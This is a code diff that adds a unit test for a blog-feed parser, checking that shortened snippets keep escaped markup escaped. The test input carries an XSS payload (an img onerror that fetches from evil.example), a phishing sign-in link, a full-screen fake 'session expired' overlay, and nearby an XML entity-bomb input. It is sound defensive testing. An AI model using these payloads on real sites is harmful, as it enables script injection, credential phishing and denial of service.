@@ -60,6 +60,30 @@ describe('parseBlogFeed', () => {
       expect(all).not.toContain(bad)
   })
 
+  it('shortens a snippet over 600 characters without decoding escaped markup back into tags', () => {
+    // Escaped markup is text in the feed; the old shortening decoded it into live tags (SEC-14).
+    const hostile =
+      '&lt;img src=x onerror="fetch(\'https://evil.example/t\')"&gt;' +
+      '&lt;a href="https://evil.example/sign-in"&gt;Log opnieuw in&lt;/a&gt;' +
+      '&lt;div style="position:fixed;inset:0;z-index:9999"&gt;Sessie verlopen&lt;/div&gt;'
+    const feed = rss(
+      item(
+        `<title>Lang</title><pubDate>Mon, 05 Jan 2026 10:00:00 GMT</pubDate><description><![CDATA[<p>${'Tekst & meer. '.repeat(10)}${hostile}${'x'.repeat(400)}</p>]]></description>`,
+      ),
+    )
+    const [article] = parseBlogFeed(feed)
+    expect(article).toBeDefined()
+    const snippet = article!.snippet
+    expect(snippet.endsWith('…')).toBe(true)
+    expect(snippet.length).toBeLessThanOrEqual(600)
+    // No tag at all: every < in the shortened snippet is escaped.
+    expect(snippet).not.toMatch(/<[a-z/!]/i)
+    expect(snippet).toContain('&lt;img src=x onerror=')
+    expect(snippet).toContain('&lt;div style=')
+    // Never an entity cut in half.
+    expect(snippet).not.toMatch(/&[#a-z0-9]*…$/i)
+  })
+
   it('answers [] for a feed that is not XML, and ignores a DTD entity bomb', () => {
     expect(parseBlogFeed('not xml at all <<<')).toEqual([])
     const bomb = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${rss(item('<title>&b;</title>'))}`
